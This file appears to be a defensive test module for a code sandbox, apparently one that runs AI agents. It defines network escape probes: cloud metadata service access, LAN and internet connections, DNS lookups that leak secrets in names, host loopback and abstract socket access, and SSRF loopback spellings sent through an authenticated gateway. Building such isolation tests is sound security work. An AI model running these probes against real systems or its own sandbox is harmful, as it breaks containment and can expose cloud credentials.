"""Getting out. Nothing is sent to an address that is not loopback: where the sandbox has another
interface, which is itself a success of the attack, no connection is tried."""

from __future__ import annotations

from tests.attacks.attack import Attack, AttackClass
from tests.attacks.classes.credentials import GATEWAY, NO_GATEWAY

NO_ROUTE = "the sandbox has no interface but loopback"
NO_PACKET = "no test may send a packet off this machine"

_ONLY_LO = """
import errno, socket, struct
names = [name for _, name in socket.if_nameindex()]
routes = open("/proc/net/route").read().splitlines()[1:]
try:
    routes += [r for r in open("/proc/net/ipv6_route").read().splitlines() if r.split()[-1] != "lo"]
except FileNotFoundError:
    pass
if names != ["lo"] or routes:
    print("PWNED", names, routes)
    raise SystemExit
"""

_TRY = (
    _ONLY_LO
    + """
UNREACHABLE = (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL, errno.EAFNOSUPPORT,
               errno.EPERM, errno.EACCES)
for family, kind, address in {addresses}:
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            s.connect(address)
            print("PWNED", address)
    except OSError as error:
        print(address, error)
        if error.errno not in UNREACHABLE:
            print("PWNED", address)
"""
)

_METADATA = [(2, 1, ("169.254.169.254", 80)), (2, 2, ("169.254.169.254", 80)),
             (10, 1, ("fd00:ec2::254", 80))]  # fmt: skip
_LAN = [(2, 1, (host, 22)) for host in ("10.0.0.1", "172.16.0.1", "172.17.0.1", "192.168.1.1")]
_WORLD = [(2, 1, ("192.0.2.1", 443)), (2, 2, ("192.0.2.1", 53)), (10, 1, ("2001:db8::1", 443))]  # fmt: skip

_HOST_LOOPBACK = """
import socket
for host in ("127.0.0.1", "::1", "localhost", "127.0.0.2", "0.0.0.0"):
    try:
        with socket.create_connection((host, @PORT@), timeout=60) as s:
            print(s.recv(6).decode())
    except OSError as error:
        print(host, error)
"""

_DNS = (
    _ONLY_LO
    + """
for name in ("metadata.google.internal", "example.com", "host.docker.internal",
             "gateway.docker.internal", "secret-in-a-name.example.com"):
    try:
        print("PWNED", socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, error)
"""
)

# Those of the sandbox's own loopback, Docker's and systemd's among them, and whichever is named.
_NAME_SERVERS = (
    _ONLY_LO
    + """
import re
QUERY = bytes.fromhex("beef01000001000000000000076578616d706c6503636f6d0000010001")
try:
    named = re.findall(r"(?m)^nameserver (\\S+)", open("/etc/resolv.conf").read())
except OSError:
    named = []
for address in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "::1", "8.8.8.8", *named):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.5)
                s.connect((address, 53))
                # Only to loopback can there be a connection.
                print("PWNED" if kind == socket.SOCK_STREAM else "no answer yet", address)
                if not address.startswith("127.") and address != "::1":
                    print("PWNED", address)
                    continue
                s.send(QUERY)
                print("PWNED", address, s.recv(512))
        except OSError as error:
            print(address, kind, error)
"""
)

# Only loopback addresses, in every spelling: what the daemon would connect to stays here.
_SPELLINGS = ("127.0.0.1", "localhost", "127.1", "0x7f000001", "2130706433", "017700000001",
              "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "[::]", "127.0.0.1.", "localhost.",
              "127.0.0.1%00.example.com", "example.com@127.0.0.1")  # fmt: skip

_THROUGH_GATEWAY = (
    GATEWAY
    + f"""
import base64
proxy = "Basic " + base64.b64encode(f"rover:{{token}}".encode()).decode()
for host in {_SPELLINGS!r}:
    for said in (
        request("CONNECT", f"{{host}}:@PORT@", Proxy_Authorization=proxy),
        request("GET", f"http://{{host}}:@PORT@/", Proxy_Authorization=proxy),
        request("GET", "/v1/models", Host=f"{{host}}:@PORT@"),
        request("POST", "/v1/messages", "{{}}", X_Forwarded_Host=f"{{host}}:@PORT@",
                Anthropic_Base_Url=f"http://{{host}}:@PORT@"),
    ):
        print(host, said[:80])
        if "PWNED" in said:
            print("PWNED", host)
"""
)

CLASS = AttackClass(
    "network",
    "the network",
    (
        Attack(
            "interfaces",
            "find an interface or a route besides loopback",
            _ONLY_LO,
            NO_ROUTE,
            language="python",
        ),
        Attack(
            "metadata-service",
            "reach the cloud's metadata service",
            _TRY.format(addresses=_METADATA),
            NO_ROUTE,
            language="python",
            opened=False,
            closed=NO_PACKET,
        ),
        Attack(
            "lan",
            "reach hosts of the local network and of the engine's bridge",
            _TRY.format(addresses=_LAN),
            NO_ROUTE,
            language="python",
            opened=False,
            closed=NO_PACKET,
        ),
        Attack(
            "world",
            "reach any host: IPv4, IPv6, UDP",
            _TRY.format(addresses=_WORLD),
            NO_ROUTE,
            language="python",
            opened=False,
            closed=NO_PACKET,
        ),
        Attack(
            "names",
            "resolve names, or tell secrets in them",
            _DNS,
            NO_ROUTE,
            language="python",
            opened=False,
            closed=NO_PACKET,
        ),
        Attack(
            "name-servers",
            "ask a name server directly, by UDP or TCP",
            _NAME_SERVERS,
            NO_ROUTE,
            language="python",
            opened=False,
            closed=NO_PACKET,
        ),
        Attack(
            "host-loopback",
            "reach a service on the host's loopback",
            _HOST_LOOPBACK,
            "a network namespace of its own",
            language="python",
        ),
        Attack(
            "abstract-socket",
            "reach an abstract unix socket of the host",
            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0@ABSTRACT@')\n"
            "print(s.recv(6).decode())",
            "a network namespace of its own",
            language="python",
        ),
        Attack(
            "gateway-to-loopback",
            "have the gateway connect to the host's loopback, in every spelling of it",
            _THROUGH_GATEWAY,
            "the gateway never connects to an address that is not global",
            language="python",
            opened=False,
            closed=NO_GATEWAY,
        ),
    ),
)
